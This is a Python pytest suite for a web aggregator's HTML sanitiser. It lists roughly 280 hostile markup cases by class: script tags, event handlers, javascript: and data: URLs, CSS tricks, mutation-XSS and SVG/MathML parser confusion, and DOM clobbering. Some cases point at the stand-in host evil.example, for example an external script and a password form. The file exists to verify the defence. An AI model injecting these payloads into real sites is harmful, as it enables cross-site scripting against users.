"""Markup that must not act: hostile cases by class, and what the sanitiser leaves of each."""

from __future__ import annotations

import re

import pytest
from selectolax.lexbor import LexborHTMLParser

from aggregator.normalise import mathml
from aggregator.normalise.html import TAGS, sanitise

# fmt: off
CASES: tuple[tuple[str, str], ...] = (
    ("script_1", "<script>alert(1)</script>"),
    ("script_2", "<SCRIPT>alert(1)</SCRIPT>"),
    ("script_3", "<script src=//evil.example/x.js></script>"),
    ("script_4", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("script_5", "<script\n>alert(1)</script\n>"),
    ("script_6", "<script/xss src=x></script>"),
    ("script_7", "<script>alert(1)"),
    ("script_8", "<script>/*</script><script>*/alert(1)</script>"),
    ("script_9", "<<script>alert(1);//<</script>"),
    ("script_10", "<script type=module>import 'x'</script>"),
    ("script_11", "<script>\0alert(1)</script>"),
    ("script_12", "<svg><script>alert(1)</script></svg>"),
    ("script_13", "<svg><script xlink:href=data:,alert(1)></script></svg>"),
    ("script_14", "<math><script>alert(1)</script></math>"),
    ("script_15", "<noscript><script>alert(1)</script></noscript>"),
    ("script_16", "<title><script>alert(1)</script></title>"),
    ("script_17", "<textarea><script>alert(1)</script></textarea>"),
    ("script_18", "<xmp><script>alert(1)</script></xmp>"),
    ("script_19", "<template><script>alert(1)</script></template>"),
    ("script_20", "<p>a<script>alert(1)</script>b</p>"),
    ("handler_1", "<img src=x onerror=alert(1)>"),
    ("handler_2", "<img src=x OnErRoR=alert(1)>"),
    ("handler_3", "<img/src=x/onerror=alert(1)>"),
    ("handler_4", "<img src=x onerror\n=\nalert(1)>"),
    ("handler_5", "<img src='x' onerror='alert(1)'>"),
    ("handler_6", "<img src=`x` onerror=alert(1)>"),
    ("handler_7", "<img src=x onload=alert(1)//"),
    ("handler_8", "<body onload=alert(1)>"),
    ("handler_9", "<svg onload=alert(1)>"),
    ("handler_10", "<svg/onload=alert(1)>"),
    ("handler_11", "<p onclick=alert(1)>x</p>"),
    ("handler_12", "<a href=x onmouseover=alert(1)>x</a>"),
    ("handler_13", "<div onpointerenter=alert(1)>x</div>"),
    ("handler_14", "<details open ontoggle=alert(1)>x</details>"),
    ("handler_15", "<video onloadstart=alert(1) src=x></video>"),
    ("handler_16", "<audio src=x onerror=alert(1)></audio>"),
    ("handler_17", "<video><source onerror=alert(1)></video>"),
    ("handler_18", "<input autofocus onfocus=alert(1)>"),
    ("handler_19", "<select onfocus=alert(1) autofocus></select>"),
    ("handler_20", "<textarea onfocus=alert(1) autofocus></textarea>"),
    ("handler_21", "<marquee onstart=alert(1)>x</marquee>"),
    ("handler_22", "<table onscroll=alert(1)><tr><td>x</table>"),
    ("handler_23", "<iframe src=https://www.youtube.com/embed/x onload=alert(1)></iframe>"),
    ("handler_24", "<img alt='x' title='\" onerror=alert(1) '>"),
    ("handler_25", "<img \"\"\"><script>alert(1)</script>\">"),
    ("handler_26", "<p style=color:red onanimationend=alert(1)>x"),
    ("handler_27", "<img src=x:x onerror&#61;alert(1)>"),
    ("handler_28", "<b/onmouseenter=alert(1)>x</b>"),
    ("handler_29", "<img src=\"x\"onerror=alert(1)>"),
    ("handler_30", "<isindex type=image onerror=alert(1) src=x>"),
    ("handler_31", "<li value=1 onclick=alert(1)>x"),
    ("handler_32", "<time datetime=x onclick=alert(1)>x</time>"),
    ("javascript_url_1", "<a href=javascript:alert(1)>x</a>"),
    ("javascript_url_2", "<a href=JaVaScRiPt:alert(1)>x</a>"),
    ("javascript_url_3", "<a href=' javascript:alert(1)'>x</a>"),
    ("javascript_url_4", "<a href='java\tscript:alert(1)'>x</a>"),
    ("javascript_url_5", "<a href='java\nscript:alert(1)'>x</a>"),
    ("javascript_url_6", "<a href='java\rscript:alert(1)'>x</a>"),
    ("javascript_url_7", "<a href='\x01javascript:alert(1)'>x</a>"),
    ("javascript_url_8", "<a href='&#106;avascript:alert(1)'>x</a>"),
    ("javascript_url_9", "<a href='&#x6A;avascript:alert(1)'>x</a>"),
    ("javascript_url_10", "<a href='&#0000106avascript:alert(1)'>x</a>"),
    ("javascript_url_11", "<a href='java&Tab;script:alert(1)'>x</a>"),
    ("javascript_url_12", "<a href='java&NewLine;script:alert(1)'>x</a>"),
    ("javascript_url_13", "<a href='javascript&colon;alert(1)'>x</a>"),
    ("javascript_url_14", "<a href='vbscript:msgbox(1)'>x</a>"),
    ("javascript_url_15", "<a href='livescript:x'>x</a>"),
    ("javascript_url_16", "<a href='feed:javascript:alert(1)'>x</a>"),
    ("javascript_url_17", "<a href='view-source:javascript:alert(1)'>x</a>"),
    ("javascript_url_18", "<a href='jar:http://x!/y'>x</a>"),
    ("javascript_url_19", "<a href='file:///etc/passwd'>x</a>"),
    ("javascript_url_20", "<a href='blob:http://x/y'>x</a>"),
    ("javascript_url_21", "<img src=javascript:alert(1)>"),
    ("javascript_url_22", "<img dynsrc=javascript:alert(1)>"),
    ("javascript_url_23", "<img lowsrc=javascript:alert(1)>"),
    ("javascript_url_24", "<img srcset='javascript:alert(1) 1x'>"),
    ("javascript_url_25", "<img data-src=javascript:alert(1)>"),
    ("javascript_url_26", "<img data-srcset='javascript:alert(1) 2x'>"),
    ("javascript_url_27", "<iframe src=javascript:alert(1)></iframe>"),
    ("javascript_url_28", "<iframe data-src=javascript:alert(1)></iframe>"),
    ("javascript_url_29", "<video poster=javascript:alert(1)></video>"),
    ("javascript_url_30", "<source srcset=javascript:alert(1)>"),
    ("javascript_url_31", "<blockquote cite=javascript:alert(1)>x</blockquote>"),
    ("javascript_url_32", "<q cite=javascript:alert(1)>x</q>"),
    ("javascript_url_33", "<table background=javascript:alert(1)><tr><td>x</table>"),
    ("javascript_url_34", "<td background=javascript:alert(1)>x</td>"),
    ("javascript_url_35", "<body background=javascript:alert(1)>"),
    ("javascript_url_36", "<form action=javascript:alert(1)><input type=submit></form>"),
    ("javascript_url_37", "<button formaction=javascript:alert(1)>x</button>"),
    ("javascript_url_38", "<object data=javascript:alert(1)></object>"),
    ("javascript_url_39", "<embed src=javascript:alert(1)>"),
    ("javascript_url_40", "<math href=javascript:alert(1)>x</math>"),
    ("javascript_url_41", "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>"),
    ("javascript_url_42", "<base href=javascript:alert(1)//>"),
    ("javascript_url_43", "<link rel=stylesheet href=javascript:alert(1)>"),
    ("javascript_url_44", "<area href=javascript:alert(1)>"),
    ("javascript_url_45", "<a ping=javascript:alert(1) href=x>x</a>"),
    ("javascript_url_46", "<track src=javascript:alert(1)>"),
    ("data_url_1", "<a href='data:text/html,<script>alert(1)</script>'>x</a>"),
    ("data_url_2", "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>"),
    ("data_url_3", "<a href=' DATA:text/html,x'>x</a>"),
    ("data_url_4", "<a href='da\nta:text/html,x'>x</a>"),
    ("data_url_5", "<img src='data:image/svg+xml,<svg onload=alert(1)>'>"),
    ("data_url_6", "<img src='data:image/svg+xml;base64,PHN2Zz4='>"),
    ("data_url_7", "<img src='data:text/html;base64,PHN2Zz4='>"),
    ("data_url_8", "<img src='data:image/png,<script>alert(1)</script>'>"),
    ("data_url_9", "<img data-src='data:image/svg+xml,<svg onload=alert(1)>'>"),
    ("data_url_10", "<img srcset='data:image/svg+xml,x 1x'>"),
    ("data_url_11", "<iframe src='data:text/html,<script>alert(1)</script>'></iframe>"),
    ("data_url_12", "<object data='data:text/html,x'></object>"),
    ("data_url_13", "<embed src='data:image/svg+xml,x'>"),
    ("data_url_14", "<video src='data:video/mp4,x'></video>"),
    ("data_url_15", "<video poster='data:image/svg+xml,x'></video>"),
    ("data_url_16", "<blockquote cite='data:text/html,x'>x</blockquote>"),
    ("data_url_17", "<source src='data:text/html,x'>"),
    ("style_1", "<style>@import 'x.css';</style>"),
    ("style_2", "<style>body{background:url(javascript:alert(1))}</style>"),
    ("style_3", "<p style='background:url(javascript:alert(1))'>x</p>"),
    ("style_4", "<p style='background-image:url(http://evil.example/x)'>x</p>"),
    ("style_5", "<p style='width:expression(alert(1))'>x</p>"),
    ("style_6", "<p style='-moz-binding:url(x)'>x</p>"),
    ("style_7", "<p style='behavior:url(x)'>x</p>"),
    ("style_8", "<p style='position:fixed;top:0;left:0;z-index:9'>x</p>"),
    ("style_9", "<p style='position:\\66ixed'>x</p>"),
    ("style_10", "<p style='po/**/sition:fixed'>x</p>"),
    ("style_11", "<p style='color:red;position:absolute'>x</p>"),
    ("style_12", "<p style='list-style:url(http://evil.example/x)'>x</p>"),
    ("style_13", "<p style='cursor:url(x),auto'>x</p>"),
    ("style_14", "<p style='float:left;margin:-999px'>x</p>"),
    ("style_15", "<p style='animation:x 1s'>x</p>"),
    ("style_16", "<p style='content:url(x)'>x</p>"),
    ("style_17", "<p style='@import url(x)'>x</p>"),
    ("style_18", "<div style='transform:scale(99)'>x</div>"),
    ("style_19", "<style><img src='</style><img src=x onerror=alert(1)>'>"),
    ("element_1", "<object data=x.swf></object>"),
    ("element_2", "<embed src=x.swf>"),
    ("element_3", "<applet code=x></applet>"),
    ("element_4", "<form action=http://evil.example><input name=password></form>"),
    ("element_5", "<input type=image src=x>"),
    ("element_6", "<button>x</button>"),
    ("element_7", "<select><option>x</select>"),
    ("element_8", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>"),
    ("element_9", "<base href=http://evil.example/>"),
    ("element_10", "<link rel=import href=x>"),
    ("element_11", "<frameset><frame src=javascript:alert(1)></frameset>"),
    ("element_12", "<portal src=x></portal>"),
    ("element_13", "<dialog open>x</dialog>"),
    ("element_14", "<layer src=x></layer>"),
    ("element_15", "<bgsound src=x>"),
    ("element_16", "<isindex action=x>"),
    ("element_17", "<keygen>"),
    ("element_18", "<slot>x</slot>"),
    ("element_19", "<x-widget onclick=alert(1)>x</x-widget>"),
    ("element_20", "<menuitem onclick=alert(1)>x</menuitem>"),
    ("frame_1", "<iframe src=http://evil.example></iframe>"),
    ("frame_2", "<iframe srcdoc='<script>alert(1)</script>'></iframe>"),
    ("frame_3", "<iframe src=https://www.youtube.com.evil.example/embed/x></iframe>"),
    ("frame_4", "<iframe src=https://www.youtube.com@evil.example/embed/x></iframe>"),
    ("frame_5", "<iframe src=https://www.youtube.com:81/embed/x></iframe>"),
    ("frame_6", "<iframe src=https://www.youtube.com/redirect?q=x></iframe>"),
    ("frame_7", "<iframe src=https://www.youtube.com/embed/x srcdoc='<script>alert(1)</script>'></iframe>"),
    ("frame_8", "<iframe src='https://www.youtube.com/embed/\"onload=alert(1) x=\"'></iframe>"),
    ("frame_9", "<iframe src=//evil.example></iframe>"),
    ("frame_10", "<iframe><img src=x onerror=alert(1)></iframe>"),
    ("frame_11", "<iframe src=https://www.youtube.com/embed/x><img src=x onerror=alert(1)></iframe>"),
    ("frame_12", "<iframe src=https://www.youtube.com/embed/x><script>alert(1)</script>"),
    ("frame_13", "<iframe src=about:blank></iframe>"),
    ("frame_14", "<iframe name=x src=https://www.youtube.com/embed/x sandbox=allow-top-navigation></iframe>"),
    ("mutation_1", "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>"),
    ("mutation_2", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>"),  # noqa: E501
    ("mutation_3", "<math><mi><style><img title='</style><img src=x onerror=alert(1)>'></style></mi></math>"),
    ("mutation_4", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"),
    ("mutation_5", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>"),
    ("mutation_6", "<noembed><p title='</noembed><img src=x onerror=alert(1)>'>"),
    ("mutation_7", "<noframes><p title='</noframes><img src=x onerror=alert(1)>'>"),
    ("mutation_8", "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>"),
    ("mutation_9", "<iframe><p title='</iframe><img src=x onerror=alert(1)>'>"),
    ("mutation_10", "<title><p title='</title><img src=x onerror=alert(1)>'>"),
    ("mutation_11", "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>"),
    ("mutation_12", "<plaintext><img src=x onerror=alert(1)>"),
    ("mutation_13", "<!--><img src=x onerror=alert(1)>-->"),
    ("mutation_14", "<!-- --!><img src=x onerror=alert(1)> -->"),
    ("mutation_15", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->"),
    ("mutation_16", "<![CDATA[<img src=x onerror=alert(1)>]]>"),
    ("mutation_17", "<?xml version='1.0'?><img src=x onerror=alert(1)>"),
    ("mutation_18", "<!DOCTYPE x><img src=x onerror=alert(1)>"),
    ("mutation_19", "</p title='><img src=x onerror=alert(1)>'>"),
    ("mutation_20", "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>"),
    ("mutation_21", "<svg><desc><img src=x onerror=alert(1)></desc></svg>"),
    ("mutation_22", "<svg><use href='data:image/svg+xml,x'/></svg>"),
    ("mutation_23", "<svg><animate onbegin=alert(1) attributeName=x></svg>"),
    ("mutation_24", "<svg><set attributeName=href to=javascript:alert(1)></svg>"),
    ("mutation_25", "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>"),  # noqa: E501
    ("mutation_26", "<select><template><img src=x onerror=alert(1)></template></select>"),
    ("mutation_27", "<table><a href=javascript:alert(1)><tr><td>x</table>"),
    ("mutation_28", "<a href='x'><a href=javascript:alert(1)>x</a></a>"),
    ("mutation_29", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("mutation_30", "&amp;lt;script&amp;gt;alert(1)"),
    ("mutation_31", "<a title='<img src=x onerror=alert(1)>'>x</a>"),
    ("mutation_32", "<img alt='<iframe src=x></iframe>' src=x>"),
    ("mutation_33", "<p title='<!--'><img src=x onerror=alert(1)></p>-->"),
    ("mutation_34", "<code class='\"><img src=x onerror=alert(1)>'>x</code>"),
    ("mutation_35", "\ud800<img src=x onerror=alert(1)>"),
    ("mutation_36", "<img\x00 src=x onerror=alert(1)>"),
    ("mutation_37", "<\x00script>alert(1)</script>"),
    ("mutation_38", "<img data-src='\"><img src=x onerror=alert(1)>'>"),
    ("mutation_39", "<img data-src=x alt='\"><script>alert(1)</script>'>"),
    ("mutation_40", "<img srcset='\"><script>alert(1)</script> 1x'>"),
    ("clobbering_1", "<a id=location>x</a>"),
    ("clobbering_2", "<img name=getElementById src=x>"),
    ("clobbering_3", "<form id=body></form>"),
    ("clobbering_4", "<a id=x name=y href=cid:x>x</a>"),
    ("clobbering_5", "<p class='modal-open admin'>x</p>"),
    ("clobbering_6", "<div contenteditable>x</div>"),
    ("clobbering_7", "<p tabindex=1 accesskey=x autofocus>x</p>"),
    ("clobbering_8", "<a href=x target=_top>x</a>"),
    ("clobbering_9", "<img src=x usemap='#m'><map name=m><area href=javascript:alert(1)></map>"),
    ("clobbering_10", "<p is=x-widget>x</p>"),
    ("clobbering_11", "<p popover id=x>y</p>"),
    ("foreign_1", "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>"),  # noqa: E501
    ("foreign_2", "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title='</style><img src onerror=alert(1)>'></style></h1>"),  # noqa: E501
    ("foreign_3", "<math><mi><svg><style>&lt;img src=x onerror=alert(1)&gt;</style></svg></mi></math>"),
    ("foreign_4", "<svg><title><math><mtext><style><img src=x onerror=alert(1)></style></mtext></math></title></svg>"),  # noqa: E501
    ("foreign_5", "<svg><foreignObject><math><mi><img src=x onerror=alert(1)></mi></math></foreignObject></svg>"),  # noqa: E501
    ("foreign_6", "<svg><desc>&lt;img src=x onerror=alert(1)&gt;</desc></svg>"),
    ("foreign_7", "<svg><text>&lt;script&gt;alert(1)&lt;/script&gt;</text></svg>"),
    ("foreign_8", "<svg><image href='javascript:alert(1)'/><image href='x\" onerror=\"alert(1)'/></svg>"),
    ("foreign_9", "<math><maction actiontype=statusline#http://evil.example xlink:href=javascript:alert(1)>x</maction></math>"),  # noqa: E501
    ("foreign_10", "<math><semantics><mi>x</mi><annotation encoding=application/x-tex>'\"><img src=x onerror=alert(1)></annotation></semantics></math>"),  # noqa: E501
    ("foreign_11", "<math alttext='\"><img src=x onerror=alert(1)>'><mi>x</mi></math>"),
    ("foreign_12", "<math id=x name=y class=z style='position:fixed' onclick=alert(1)><mi id=a xlink:href=javascript:alert(1)>x</mi></math>"),  # noqa: E501
    ("foreign_13", "<x:math xmlns:x=m><x:mi><x:script>alert(1)</x:script></x:mi></x:math>"),
    ("foreign_14", "<script:math></script:math><script:script>alert(1)</script:script>"),
    ("foreign_15", "<math><mtext></mtext><mi></math><style><img src=x onerror=alert(1)></style>"),
    ("foreign_16", "<table><math><mtext><tr><td><img src=x onerror=alert(1)></table></math>"),
    ("foreign_17", "<math><mtext><math><mtext><a href=javascript:alert(1)>x</a></mtext></math></mtext></math>"),  # noqa: E501
    ("foreign_18", "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>"),
    ("foreign_19", "<object data='x\"><img src=x onerror=alert(1)>'><param name=movie value=javascript:alert(1)></object>"),  # noqa: E501
    ("foreign_20", "<object type='video/x\" onerror=alert(1)' data=https://a.example/v></object>"),
    ("foreign_21", "<textarea></textarea><textarea>&lt;/pre&gt;<img src=x onerror=alert(1)></textarea>"),
    ("foreign_22", "<select><option>&lt;img src=x onerror=alert(1)&gt;</select>"),
    ("foreign_23", "<noembed><math><mi><img src=x onerror=alert(1)></mi></math></noembed>"),
    ("foreign_24", "<script type=math/tex>&lt;/script&gt;<img src=x onerror=alert(1)></script>"),
    ("foreign_25", "\ue000<math><mi>\ue000<script>alert(1)</script></mi></math>\ue000&#xe000;"),
    ("foreign_26", "<math><mi>x</mi><td><a href=x><style></a><img src=x onerror=alert(1)></style></td></math>"),  # noqa: E501
    ("foreign_27", "<math><annotation-xml encoding='application/xhtml+xml'><style><!--</style><img src=x onerror=alert(1)>--></annotation-xml></math>"),  # noqa: E501
    ("clobbering_12", "<a id=location href=#location>x</a><a name=cookie href=#cookie>y</a>"),
    ("clobbering_13", "<img id='x onload=alert(1)' src=i.png><a href='#x onload=alert(1)'>x</a>"),
    ("clobbering_14", "<a href='#&quot;><img src=x onerror=alert(1)>'>x</a><p id='&quot;><img src=x onerror=alert(1)>'>x</p>"),  # noqa: E501
    ("foreign_28", "<svg><a href=' java\tscript:alert(1)'><text>x</text></a></svg>"),
)
# fmt: on

_URLS = ("href", "src", "poster", "cite", "action", "formaction", "data", "background", "ping", "xlink:href")
_SCHEMES = ("http:", "https:", "mailto:", "tel:", "magnet:", "xmpp:")
_OURS = re.compile("a[0-9a-f]{8}s?-[A-Za-z0-9_.:-]+")
_STYLES_THAT_REACH_OUT = (
    "position",
    "url(",
    "expression",
    "behavior",
    "binding",
    "float",
    "margin",
    "import",
)


def remains(markup: str) -> list[str]:
    """Returns what could still act in `markup` as a browser parses it; empty when nothing could."""
    found = []
    for node in LexborHTMLParser(markup).css("head *, body *"):
        tag = node.tag or ""
        above = (node.parent.tag if node.parent else None) or ""
        is_formula = tag in mathml.TAGS and (tag == "math" or above in mathml.TAGS)
        if not (is_formula or (tag in TAGS and above not in mathml.TAGS)):
            found.append(f"<{tag}>")
        for name, value in node.attributes.items():
            text = (value or "").strip().lower()
            if name == "id" and _OURS.fullmatch(value or ""):
                continue
            if name.startswith("on") or name in (
                "srcdoc",
                "id",
                "name",
                "target",
                "formaction",
                "is",
                "autofocus",
            ):
                found.append(f"{tag} {name}")
            if name in _URLS and not text.startswith((*_SCHEMES, "#a", "data:image/png;base64,")):
                found.append(f"{tag} {name}={value}")
            if name == "srcset" and not all(c.strip().startswith("http") for c in text.split(", ")):
                found.append(f"{tag} srcset={value}")
            if name == "style" and any(word in text for word in _STYLES_THAT_REACH_OUT):
                found.append(f"{tag} style={value}")
        if tag == "iframe" and not (node.attributes.get("src") or "").startswith(
            "https://www.youtube.com/embed/"
        ):
            found.append(f"iframe {node.attributes.get('src')}")
    return found


@pytest.mark.parametrize("markup", [markup for _, markup in CASES], ids=[name for name, _ in CASES])
def test_nothing_active_is_left(markup: str) -> None:
    """Parsed again as a browser would, the output has no script, handler, foreign frame or unsafe URL."""
    assert remains(sanitise(markup, "https://example.org/post")) == []


@pytest.mark.parametrize("markup", [markup for _, markup in CASES], ids=[name for name, _ in CASES])
def test_sanitising_twice_changes_nothing_that_matters(markup: str) -> None:
    """What is parsed and written a second time does not wake up: no mutation brings anything back."""
    once = sanitise(markup, "https://example.org/post")
    assert remains(LexborHTMLParser(once).html or "") == []


def test_the_check_recognises_active_content() -> None:
    """The checker is no rubber stamp: unsanitised, most of the cases do act."""
    acting = [name for name, markup in CASES if remains(markup.replace(chr(0xD800), ""))]
    assert len(acting) > 0.8 * len(CASES)


def test_case_names_are_unique() -> None:
    """The list can be used as a table elsewhere."""
    assert len({name for name, _ in CASES}) == len(CASES)
